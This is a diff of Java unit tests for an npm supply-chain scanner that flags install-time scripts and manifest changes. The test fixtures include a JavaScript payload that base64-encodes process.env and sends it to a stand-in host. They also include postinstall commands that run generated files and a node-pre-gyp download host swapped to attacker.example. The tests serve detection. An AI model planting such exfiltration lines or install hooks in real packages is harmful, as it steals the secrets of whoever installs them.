@@ -1952,4 +1952,129 @@ class NpmScanTest {
             assertTrue(t.highRisk());
         }
     }
+
+    // ---- red team round 8: npm's script variables, install tools' manifest fields ---------------------------------
+
+    private static final String SETUP_PAYLOAD = "require(\"https\").get(\"https://example.invalid/c?d=\" + "
+            + "Buffer.from(JSON.stringify(process.env)).toString(\"base64\"));\n";
+
+    /** A package whose prepare writes scripts/setup.js (ignored by git) and whose postinstall runs {@code command}. */
+    private static SortedMap<String, byte[]> writtenSetup(String version, String command) {
+        String extra = ",\n  \"scripts\": {\"prepare\": \"node tools/gen-setup.js > scripts/setup.js\", \"postinstall\": \""
+                + command + "\"},\n  \"config\": {\"setup\": \"scripts/setup.js\", \"dir\": \"scripts\"}";
+        return files("package.json", pkgJson("widget", version, extra), ".gitignore", "scripts/setup.js\n",
+                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n",
+                "tools/gen-setup.js", "console.log('console.log(\"installed\");');\n", "scripts/.keep", "");
+    }
+
+    /**
+     * Red team round 8 (c1): {@code "postinstall": "node $npm_package_config_setup"} with {@code config.setup} naming
+     * a file a prepare script writes: npm expands the variable from the published manifest, so the file runs at
+     * install and is never explained as build output, in every spelling of the variable.
+     */
+    @ParameterizedTest
+    @ValueSource(strings = {"node $npm_package_config_setup", "node ${npm_package_config_setup}",
+            "node %npm_package_config_setup%", "cd $npm_package_config_dir && node setup.js",
+            "node $npm_package_config_dir/setup"})
+    void aFileAnInstallScriptNamesThroughNpmsPackageVariablesRunsAtInstall(String command) throws Exception {
+        SortedMap<String, byte[]> tree = writtenSetup("5.0.0", command);
+        ArtifactReport a = publishAndScan(tree, "5.0.0", with(tree, "scripts/setup.js", "console.log(\"installed\");\n"
+                + SETUP_PAYLOAD));
+        FileDivergence setup = row(a, "package/scripts/setup.js");
+        assertEquals(FileStatus.PHANTOM, setup.status(), setup.toString());
+        assertTrue(setup.riskFlags().contains(RiskFlag.AUTO_EXEC), setup.toString());
+        assertTrue(setup.highRisk());
+        assertEquals(Verdict.HIGH_RISK, a.verdict());
+    }
+
+    /**
+     * A word of an install-time script that cannot be told — a variable npm does not set from the manifest, a command
+     * substitution, backquotes — can name any file: every shipped file the commit does not hold as it is (written by
+     * a script, ignored build output, changed) then runs at install, fail-closed; unchanged files stay matched.
+     */
+    @ParameterizedTest
+    @ValueSource(strings = {"node $SETUP_SCRIPT", "node scripts/$(echo setup).js", "node `echo scripts/setup.js`",
+            "node ${npm_package_config_setup:-x}", "node %SETUP%", "node $INIT_CWD/node_modules/widget/scripts/setup.js"})
+    void anInstallScriptWordThatCannotBeToldMakesEveryChangedFileRunAtInstall(String command) throws Exception {
+        SortedMap<String, byte[]> tree = writtenSetup("5.1.0", command);
+        ArtifactReport a = publishAndScan(tree, "5.1.0", with(tree, "scripts/setup.js", SETUP_PAYLOAD,
+                "tools/gen-setup.js", "console.log('console.log(\"installed\");');\nconsole.log(1);\n"));
+        for (String path : List.of("package/scripts/setup.js", "package/tools/gen-setup.js")) {
+            FileDivergence r = row(a, path);
+            assertTrue(r.riskFlags().contains(RiskFlag.AUTO_EXEC), r.toString());
+            assertTrue(r.highRisk(), r.toString());
+        }
+        FileDivergence index = row(a, "package/index.js");
+        assertEquals(FileStatus.MATCH, index.status());
+        assertFalse(index.riskFlags().contains(RiskFlag.AUTO_EXEC), index.toString());
+        assertEquals(Verdict.HIGH_RISK, a.verdict());
+    }
+
+    /** The benign forms: a committed setup script run by name or through config, shipped unchanged, stays matched. */
+    @ParameterizedTest
+    @ValueSource(strings = {"node scripts/setup.js", "node $npm_package_config_setup", "node \\\"$npm_package_config_setup\\\"",
+            "node ./$npm_package_config_dir/setup.js $npm_package_version"})
+    void aCommittedSetupScriptRunByNameOrThroughConfigAndShippedUnchangedStaysMatched(String command) throws Exception {
+        String extra = ",\n  \"scripts\": {\"postinstall\": \"" + command + "\"},\n"
+                + "  \"config\": {\"setup\": \"scripts/setup.js\", \"dir\": \"scripts\"}";
+        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "5.2.0", extra),
+                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n",
+                "scripts/setup.js", "console.log(\"installed\");\n");
+        ArtifactReport a = publishAndScan(tree, "5.2.0", tree);
+        FileDivergence setup = row(a, "package/scripts/setup.js");
+        assertEquals(FileStatus.MATCH, setup.status());
+        assertTrue(setup.riskFlags().contains(RiskFlag.AUTO_EXEC), "named by the postinstall: " + setup);
+        assertFalse(a.files().stream().anyMatch(FileDivergence::highRisk), a.files().toString());
+        assertFalse(a.verdict() == Verdict.HIGH_RISK || a.verdict() == Verdict.DIVERGENT, a.verdict().toString());
+    }
+
+    /** The published manifest pointing the config an install script reads at another committed file: an install-script change. */
+    @Test
+    void aPublishedConfigValueAnInstallScriptReadsIsAnInstallScriptChange() throws Exception {
+        String extra = ",\n  \"scripts\": {\"postinstall\": \"node $npm_package_config_setup\"},\n"
+                + "  \"config\": {\"setup\": \"scripts/setup.js\"}";
+        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "5.3.0", extra),
+                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n",
+                "scripts/setup.js", "console.log(\"installed\");\n", "test/fixture.js", SETUP_PAYLOAD);
+        ArtifactReport a = publishAndScan(tree, "5.3.0", with(tree, "package.json", pkgJson("widget", "5.3.0",
+                extra.replace("scripts/setup.js", "test/fixture.js"))));
+        FileDivergence manifest = row(a, "package/package.json");
+        assertEquals(NpmGeneratedFiles.INSTALL_SCRIPT, manifest.ruleId(), manifest.toString());
+        assertTrue(manifest.riskFlags().contains(RiskFlag.INSTALL_SCRIPT));
+        assertTrue(manifest.detail().orElseThrow().contains("npm_package_config_setup"), manifest.detail().orElseThrow());
+        assertTrue(row(a, "package/test/fixture.js").riskFlags().contains(RiskFlag.AUTO_EXEC));
+        assertEquals(Verdict.HIGH_RISK, a.verdict());
+    }
+
+    private static String addon(String version, String host) {
+        return pkgJson("widget", version, ",\n  \"scripts\": {\"install\": \"node-pre-gyp install --fallback-to-build\"},\n"
+                + "  \"binary\": {\"module_name\": \"addon\", \"module_path\": \"./lib/binding/{node_abi}-{platform}-{arch}\","
+                + " \"host\": \"" + host + "\", \"remote_path\": \"v{version}\"},\n"
+                + "  \"dependencies\": {\"@mapbox/node-pre-gyp\": \"^1.0.11\"}");
+    }
+
+    /**
+     * Red team round 8 (c14): the install script unchanged, but the published {@code binary.host} (where node-pre-gyp
+     * downloads the addon main then loads) is another: an install-script change, HIGH_RISK. The same field
+     * unchanged is no finding.
+     */
+    @ParameterizedTest
+    @ValueSource(booleans = {true, false})
+    void aChangedDownloadHostOfANativeAddonInstallerIsAnInstallScriptChange(boolean changed) throws Exception {
+        SortedMap<String, byte[]> tree = files("package.json", addon("5.4.0", "https://releases.acme.example/widget/"),
+                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n", "binding.gyp",
+                "{'targets': [{'target_name': 'addon', 'sources': ['addon.cc']}]}\n", "addon.cc", "int x;\n");
+        ArtifactReport a = publishAndScan(tree, "5.4.0", changed
+                ? with(tree, "package.json", addon("5.4.0", "https://attacker.example/widget/")) : tree);
+        FileDivergence manifest = row(a, "package/package.json");
+        if (changed) {
+            assertEquals(NpmGeneratedFiles.INSTALL_SCRIPT, manifest.ruleId(), manifest.toString());
+            assertTrue(manifest.detail().orElseThrow().contains("changes binary"), manifest.detail().orElseThrow());
+            assertTrue(manifest.highRisk());
+            assertEquals(Verdict.HIGH_RISK, a.verdict());
+        } else {
+            assertEquals(FileStatus.MATCH, manifest.status(), manifest.toString());
+            assertFalse(a.files().stream().anyMatch(FileDivergence::highRisk), a.files().toString());
+        }
+    }
 }
